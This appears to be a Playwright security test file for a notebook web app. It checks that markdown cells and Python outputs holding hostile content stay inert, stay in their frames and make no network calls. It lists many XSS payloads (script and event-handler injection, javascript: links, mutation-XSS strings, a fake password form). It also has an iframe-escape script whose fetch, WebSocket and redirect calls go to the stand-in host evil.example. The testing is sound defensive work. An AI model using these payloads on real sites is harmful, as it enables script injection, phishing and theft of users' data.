/** S1, S2: text and output made by an enemy in the notebook: nothing of it runs in our page, dresses up as it or calls out. */
import type { BrowserContext } from '@playwright/test'
import { cellAt, makeNotebook, openNotebook, outputOf } from './notebook-page.ts'
import { expect, test } from './people.ts'

const STEAL = 'window.stolen=1;top.stolen=1'
const PAYLOADS = [
  `<script>${STEAL}</script>`, `<img src=x onerror="${STEAL}">`, `<svg onload="${STEAL}"><animate onbegin="${STEAL}" attributeName=x dur=1s>`,
  `<a href="javascript:${STEAL}">press</a>`, `[press](javascript:${STEAL})`, `<iframe srcdoc="<script>${STEAL}</script>"></iframe>`,
  `<object data="data:text/html,<script>${STEAL}</script>"></object>`, `<form action="https://evil.example"><input name=password><button>Sign in</button></form>`,
  `<div style="position:fixed;inset:0;background:url(https://evil.example/pixel)">over everything</div>`, `<div class="fixed inset-0 z-50">dressed up</div>`,
  `<img id="cookie" name="getElementById"><a id="defaultView">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${STEAL}&gt;">`,
  `<details open ontoggle="${STEAL}"><summary>s</summary></details>`, `<meta http-equiv="refresh" content="0;url=https://evil.example">`, `<base href="https://evil.example/">`,
  `![x](https://evil.example/pixel.png)`, `$\\href{javascript:${STEAL}}{x}$`, `<a title="kept-0-0;" href="https://example.org">x</a>`, `<video src=x onerror="${STEAL}"></video>`,
  `<noscript><p title="</noscript><img src=x onerror=${STEAL}>">`, `<button popovertarget="x" onclick="${STEAL}">b</button>`, `# <img src=x onerror="${STEAL}"> title`,
]

/** What got past the page's policy and was on its way to the network. */
async function watch(context: BrowserContext): Promise<string[]> {
  const calls: string[] = []
  await context.route(/evil\.example/, (route) => {
    calls.push(route.request().url())
    return route.abort()
  })
  context.on('page', (page) => page.on('dialog', (dialog) => void dialog.dismiss()))
  return calls
}

test('S2: hostile text cells stay text', async ({ browser, product, ownerState, owner }) => {
  const notebook = await makeNotebook(owner, `T <img src=x onerror="${STEAL}">`, PAYLOADS.map((source) => ({ kind: 'markdown', source })))
  // A page of its own: the policy reports what it stops on the console, and that is what should happen.
  const context = await browser.newContext({ storageState: ownerState, baseURL: product.url })
  const calls = await watch(context)
  const page = await context.newPage()
  await openNotebook(page, notebook)
  await page.waitForTimeout(1000)
  const found = await page.evaluate(() => ({
    stolen: 'stolen' in window,
    bad: [...document.querySelectorAll('.prose *')].flatMap((element) => {
      if (element.closest('.katex, pre') !== null) return []
      const names = element.getAttributeNames().filter((name) => /^on|^(style|class|id|name|srcset|action|popovertarget)$/.test(name))
      const isTag = /^(script|style|iframe|object|embed|form|input|button|svg|math|base|meta|video)$/i.test(element.tagName)
      return names.length > 0 || isTag ? [element.outerHTML] : []
    }),
    links: [...document.querySelectorAll<HTMLAnchorElement>('.prose a[href]')].filter((link) => !/^https?:/.test(link.href)).map((link) => link.outerHTML),
  }))
  expect(found).toEqual({ stolen: false, bad: [], links: [] })
  expect(calls).toEqual([])
  expect(page.url()).toContain(notebook.path)
  await context.close()
})

test('S1: hostile output stays in its frame and calls nobody', async ({ browser, product, ownerState, owner }) => {
  const pages = PAYLOADS.map((payload) => `<div>${payload}</div>`).join('')
  const escape = `<script>for (const reach of [() => parent.document.title = 'stolen', () => top.location = 'https://evil.example', () => localStorage.x = 1, () => document.cookie = 'a=1', () => fetch('https://evil.example'), () => new WebSocket('wss://evil.example'), () => { new Image().src = 'https://evil.example/i' }, () => { location = 'https://evil.example/away' }]) { try { reach() } catch {} }; parent.postMessage({ kind: 'height', height: 1e9 }, '*'); document.body.append('script ran')</script>`
  const notebook = await makeNotebook(owner, 'Hostile output', [{ kind: 'python', source: `from IPython.display import HTML, SVG, display\ndisplay(HTML(${JSON.stringify(pages)}))\ndisplay(SVG('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="top.stolen=1"></svg>'))\ndisplay(HTML(${JSON.stringify(escape)}))` }])
  const context = await browser.newContext({ storageState: ownerState, baseURL: product.url })
  const calls = await watch(context)
  const page = await context.newPage()
  await openNotebook(page, notebook)
  await cellAt(page, 1).getByRole('button', { name: 'Run cell' }).click()
  await expect(cellAt(page, 1).locator('iframe')).toHaveCount(3, { timeout: 30_000 })
  await page.waitForTimeout(2500)
  expect(await page.evaluate(() => 'stolen' in window)).toBe(false)
  expect(await page.title()).not.toContain('stolen')
  expect(page.url()).toContain(notebook.path)
  expect(calls).toEqual([])
  for (const frame of await cellAt(page, 1).locator('iframe').all()) expect((await frame.boundingBox())?.height ?? 0).toBeLessThanOrEqual(2000)
  await context.close()
})

test('S1: hostile text, errors, formulas, charts and progress stay what they are', async ({ browser, product, ownerState, owner }) => {
  const source = [
    'import json, sys', 'from IPython.display import Latex, Markdown, JSON', `payloads = json.loads(${JSON.stringify(JSON.stringify(PAYLOADS))})`,
    'for p in payloads:', '    print(p); print("\x1b[31m" + p + "\x1b]8;;javascript:top.stolen=1\x07link\x1b]8;;\x07", file=sys.stderr)',
    '    display(Markdown(p), Latex("$" + p + "$"), JSON({p: p}))', '    display({"application/vnd.jupyter.widget-view+json": {}, "text/plain": p}, raw=True)',
    'bad = payloads[1]',
    'mark = {"type": "point", "href": "javascript:top.stolen=1", "tooltip": True}',
    'display({"application/vnd.vegalite.v5+json": {"title": bad, "mark": mark, "usermeta": {"embedOptions": {"ast": False, "actions": True, "patch": "https://evil.example/p.json"}}, "data": {"values": [{"a": bad, "b": 1}]}, "transform": [{"calculate": "window.stolen = 1", "as": "c"}], "encoding": {"x": {"field": "a", "type": "nominal"}, "y": {"field": "b", "type": "quantitative"}, "href": {"value": "javascript:top.stolen=1"}, "url": {"value": "https://evil.example/i.png"}}}}, raw=True)',
    'display({"application/vnd.vega.v5+json": {"width": 9, "height": 9, "data": [{"name": "t", "url": "https://evil.example/d.json"}], "marks": [{"type": "image", "encode": {"enter": {"url": {"value": "https://evil.example/i.png"}}}}]}}, raw=True)',
    'sys.stderr.write(bad + ":  45%|####      | 45/100 [" + bad + "]")',
    'problem = type("E" + bad, (Exception,), {})(bad)', 'problem.add_note(bad)', 'raise problem from ValueError(bad)',
  ].join('\n')
  const notebook = await makeNotebook(owner, 'Hostile forms', [{ kind: 'python', source }])
  const context = await browser.newContext({ storageState: ownerState, baseURL: product.url })
  const calls = await watch(context)
  const page = await context.newPage()
  await openNotebook(page, notebook)
  await cellAt(page, 1).getByRole('button', { name: 'Run cell' }).click()
  await expect(outputOf(page, 1)).toContainText('Caused by ValueError', { timeout: 30_000 })
  await page.waitForTimeout(2000)
  const found = await page.evaluate(() => {
    const output = document.querySelector('[aria-label^="Output of"]')
    const all = [...(output?.querySelectorAll('*') ?? [])].filter((element) => element.closest('.katex') === null)
    return {
      stolen: 'stolen' in window,
      handlers: all.filter((element) => element.getAttributeNames().some((name) => name.startsWith('on'))).map((element) => element.outerHTML.slice(0, 200)),
      links: all.filter((element) => /^\s*javascript:/i.test(element.getAttribute('href') ?? element.getAttribute('xlink:href') ?? '')).map((element) => element.outerHTML.slice(0, 200)),
      foreign: all.filter((element) => /^(script|object|embed|form|base|meta|video)$/i.test(element.tagName)).map((element) => element.outerHTML.slice(0, 200)),
    }
  })
  expect(found).toEqual({ stolen: false, handlers: [], links: [], foreign: [] })
  expect(calls).toEqual([])
  expect(page.url()).toContain(notebook.path)
  await context.close()
})
